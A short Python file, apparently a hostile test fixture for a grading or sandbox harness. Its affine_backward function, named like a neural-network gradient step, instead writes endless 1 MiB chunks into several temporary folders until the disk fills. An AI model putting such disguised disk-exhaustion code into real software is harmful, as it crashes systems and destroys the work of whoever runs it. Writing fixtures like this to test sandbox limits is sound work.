"""Writes a file without end, somewhere."""


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    for folder in ("@FOLDER@", "/tmp", "/dev/shm", "/var/tmp", "."):
        try:
            with open(folder + "/refbp-hostile-filler", "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        except OSError as error:
            last = error
    raise last
